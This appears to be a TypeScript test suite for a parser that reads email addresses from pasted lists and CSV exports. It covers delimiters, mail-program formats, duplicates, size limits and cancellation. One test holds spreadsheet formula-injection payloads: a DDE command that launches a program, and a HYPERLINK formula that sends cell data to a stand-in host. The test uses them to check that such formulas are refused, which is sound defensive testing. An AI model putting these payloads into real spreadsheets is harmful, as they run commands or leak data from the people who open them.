import fc from "fast-check";
import Papa from "papaparse";
import { maxAddresses } from "../../../../../bot/contract/addresses.ts";
import { shownRefusals } from "./gather-addresses.ts";
import { maxListLength, readPeopleList } from "./read-people-list.ts";

type Choice = Partial<Parameters<typeof readPeopleList>[1]>;

const reading = (more: Choice = {}) => ({
  column: null,
  signal: new AbortController().signal,
  onProgress: () => undefined,
  ...more,
});
async function readWhole(text: string, more: Choice = {}) {
  const list = await readPeopleList(text, reading(more));
  if (!list.ok) throw new Error(list.message);
  return list;
}
const addressesOf = async (text: string, more: Choice = {}) =>
  (await readWhole(text, more)).gathered.addresses;
const refusalOf = async (text: string) => {
  const list = await readPeopleList(text, reading());
  return list.ok ? null : list.message;
};

const ab = ["a@x.com", "b@x.com"];

describe("a list of people", () => {
  it.each([
    ["one a line", "a@x.com\nb@x.com\n"],
    ["one a line, as Windows ends lines", "a@x.com\r\nb@x.com\r\n"],
    ["one a line, as old Macs ended lines", "a@x.com\rb@x.com"],
    ["in one line with commas", "a@x.com, b@x.com"],
    ["in one line with semicolons, the last one ended", "a@x.com;b@x.com;"],
    ["with tabs", "a@x.com\tb@x.com"],
    ["with spaces", "a@x.com b@x.com"],
    [
      "as Outlook copies people",
      "Vance, Adele <a@x.com>; Wilber, Alex <b@x.com>",
    ],
    [
      "as other mail programs do",
      '"Vance, Adele" <a@x.com>, "Wilber, Alex" <b@x.com>',
    ],
    [
      "the same, a person a line",
      'Vance, Adele <a@x.com>\n"Wilber, Alex" <b@x.com>',
    ],
    ["with empty lines between", "\n\na@x.com\n\n \nb@x.com\n\n"],
    ["under a heading", "E-Mail\na@x.com\nb@x.com"],
    ["in a table with commas", "Name,Email\nAdele,a@x.com\nAlex,b@x.com"],
    [
      "in a table with semicolons",
      "Name;Email;Pay\nAdele;a@x.com;1,5\nAlex;b@x.com;2,5",
    ],
    [
      "in a table with tabs",
      "Email\tName\na@x.com\tVance, Adele\nb@x.com\tWilber, Alex",
    ],
    [
      "in a table that names its separator",
      "sep=;\nName;Email\nAdele;a@x.com\nAlex;b@x.com",
    ],
    [
      "in a table with quotes",
      '"Name","E-mail address"\n"Vance, Adele","a@x.com"\n"Wilber, ""Al""","b@x.com"',
    ],
    [
      "in a table with line ends inside of cells",
      '"Name","Email"\n"Vance,\nAdele","a@x.com"\n"Alex","b@x.com"',
    ],
    ["in a table without a heading", "Adele,a@x.com,Sales\nAlex,b@x.com,Sales"],
    [
      "in a table with a heading that says nothing",
      "Who,Where to\nAdele,a@x.com\nAlex,b@x.com",
    ],
    [
      "in the address column, not in the street's",
      "Address,Contact\n1 Main St,a@x.com\n2 Main St,b@x.com",
    ],
    [
      "in their own column, not in their manager's",
      "Manager mail,Name,Mail\nm@x.com,Adele,a@x.com\nm@x.com,Alex,b@x.com",
    ],
    [
      "as Exchange exports them",
      "DisplayName,PrimarySmtpAddress,UserPrincipalName\nAdele,SMTP:a@x.com,u@x.com\nAlex,SMTP:b@x.com,v@x.com",
    ],
    [
      "in rows of different length",
      "Name,Email\nAdele,a@x.com,x,y\nAlex,b@x.com\n",
    ],
  ])("is read %s", async (_how, text) => {
    expect(await addressesOf(text)).toEqual(ab);
  });

  it("has everybody once, whatever the letters, and counts the rest", async () => {
    const { gathered } = await readWhole(
      "a@x.com\nB@x.com\nA@X.com\nb@x.com\nb@x.com",
    );
    expect(gathered).toMatchObject({
      addresses: ["a@x.com", "B@x.com"],
      doubles: 3,
    });
  });

  it("tells what is no address by its row, the first hundred of them, and counts all", async () => {
    const rows = [
      "Name,Email",
      "Adele,a@x.com",
      "Alex,alex at x.com",
      "Lee,=1+1",
      "Grady,",
      ",,",
      "Lidia,b@x.com",
    ];
    const { gathered, layout } = await readWhole(rows.join("\n"));
    expect(gathered.addresses).toEqual(ab);
    expect(layout).toMatchObject({ hasHeading: true, column: 1 });
    expect(gathered.refused).toEqual({
      count: 3,
      first: [
        { row: 3, refusal: "noAddress", text: "alex at x.com" },
        { row: 4, refusal: "formula", text: "=1+1" },
        { row: 5, refusal: "noAddress", text: "Grady" },
      ],
    });
    const many = await readWhole("nobody\n".repeat(shownRefusals + 23));
    expect(many.gathered.refused.count).toBe(shownRefusals + 23);
    expect(many.gathered.refused.first).toHaveLength(shownRefusals);
  });

  it("counts a row with line ends in it as one, as spreadsheets do", async () => {
    const { gathered } = await readWhole(
      'Name,Email\n"Vance,\nAdele",a@x.com\nAlex,wrong\n',
    );
    expect(gathered.refused.first).toMatchObject([{ row: 3, text: "wrong" }]);
  });

  it("takes no formula, whichever cells have one, and minds none elsewhere", async () => {
    const { gathered } = await readWhole(
      'Name,Email\n"=cmd|\' /C calc\'!A0",a@x.com\nAlex,"=HYPERLINK(""http://evil.example?x=""&A1,""b@x.com"")"\n',
    );
    expect(gathered.addresses).toEqual(["a@x.com"]);
    expect(gathered.refused.first).toMatchObject([
      { row: 3, refusal: "formula" },
    ]);
  });

  it("is read by another column where somebody chooses it, or by all", async () => {
    const text =
      "Name,Mail,Second mail\nAdele,a@x.com,b@x.com\nAlex,c@x.com,d@x.com";
    const { layout } = await readWhole(text);
    expect(layout.columns.map(({ name }) => name)).toEqual([
      "Name",
      "Mail",
      "Second mail",
    ]);
    expect(await addressesOf(text, { column: 2 })).toEqual([
      "b@x.com",
      "d@x.com",
    ]);
    expect(await addressesOf(text, { column: "every" })).toEqual([
      "a@x.com",
      "b@x.com",
      "c@x.com",
      "d@x.com",
    ]);
  });

  it("may be empty", async () => {
    for (const text of ["", "\n\n", "Email\n", ",,,\n,,,"])
      expect(await addressesOf(text)).toEqual([]);
  });
});

describe("a table that a spreadsheet wrote", () => {
  const cell = fc.string({ unit: "binary", maxLength: 20 });
  const number = fc.nat(1_000_000);

  it.each([",", ";", "\t"])(
    "parted by %j has everybody, whatever stands beside",
    (delimiter) =>
      fc.assert(
        fc.asyncProperty(
          fc.array(fc.tuple(cell, number, cell), {
            minLength: 1,
            maxLength: 30,
          }),
          async (rows) => {
            const table = [
              ["Name", "Email", "Note"],
              ...rows.map(([name, n, note]) => [name, `p${n}@x.com`, note]),
            ];
            const text = Papa.unparse(table, { delimiter, newline: "\n" });
            const { gathered } = await readWhole(text);
            expect(gathered.addresses).toEqual([
              ...new Set(rows.map(([, n]) => `p${n}@x.com`)),
            ]);
            expect(gathered.refused.count).toBe(0);
          },
        ),
        { numRuns: 200 },
      ),
  );
});

describe("a list that cannot be read", () => {
  it("is refused with the row whose quotation mark stays open, and nothing of it counts", async () => {
    const open = 'Name,Email\nAdele,a@x.com\n"Alex,b@x.com\nLee,c@x.com\n';
    expect(await refusalOf(open)).toMatch(/^In row 3 a quotation mark/);
    const wrong = 'Name,Email\nAdele,a@x.com\n"Al"ex,b@x.com\nLee,c@x.com\n';
    expect(await refusalOf(wrong)).toMatch(/^In row 3 a quotation mark/);
    const huge = `Name,Email\n"${"Adele,a@x.com\n".repeat(200_000)}`;
    expect(await refusalOf(huge)).toMatch(/^In row 2 a quotation mark/);
  });

  it("is refused when it has more addresses than an event takes, at once", async () => {
    const rows = (count: number) =>
      Array.from({ length: count }, (_, n) => `p${n}@x.com`).join("\n");
    expect(await addressesOf(rows(maxAddresses))).toHaveLength(maxAddresses);
    const progress: number[] = [];
    const list = await readPeopleList(
      rows(500_000),
      reading({ onProgress: (share) => progress.push(share) }),
    );
    expect(list.ok ? "" : list.message).toMatch(/more than 50,000 addresses/);
    expect(Math.max(...progress)).toBeLessThan(0.3);
  });

  it("is refused when it is larger than what is read", async () => {
    expect(await refusalOf("x".repeat(maxListLength + 1))).toMatch(/10 MB/);
  });
});

describe("a hostile list", () => {
  // Of a size at which a square in the work would take hours.
  const hostile: [string, string][] = [
    ["a million rows of one address", "a@x.com\n".repeat(1_000_000)],
    ["a million rows of nothing much", "x\n".repeat(1_000_000)],
    ["two million empty rows", "\n".repeat(2_000_000)],
    ["one row of a million columns", ",".repeat(1_000_000)],
    ["one huge cell", "x".repeat(900_000)],
    ["spaces without end", `a${" ".repeat(1_000_000)}b`],
    ["at signs without end", `<${"@".repeat(1_000_000)}`],
    ["brackets without end", "<a@".repeat(1_000_000)],
    ["many cells of spaces", `x,${"a".padEnd(4_000)}b\n`.repeat(2_000)],
    ["a mail list of quotes", `"a" <a@x.com>,${'"'.repeat(2_000_000)}`],
    ["a mail list of commas", `"a" <a@x.com>${",b".repeat(2_000_000)}`],
  ];

  it.each(hostile)("of %s is read in time, bit by bit", async (_what, text) => {
    let longest = 0;
    let last = performance.now();
    const onProgress = () => {
      longest = Math.max(longest, performance.now() - last);
      last = performance.now();
    };
    const list = await readPeopleList(text, reading({ onProgress }));
    if (list.ok) expect(list.gathered.addresses.length).toBeLessThanOrEqual(1);
    // The page could answer all the time; generous, because the machine may have other work.
    expect(longest).toBeLessThan(5_000);
  });

  it("can be stopped while it is read", async () => {
    const stopping = new AbortController();
    const read = readPeopleList("x\n".repeat(1_000_000), {
      column: null,
      signal: stopping.signal,
      onProgress: (share) => share > 0.1 && stopping.abort(),
    });
    await expect(read).rejects.toThrow();
  });
});
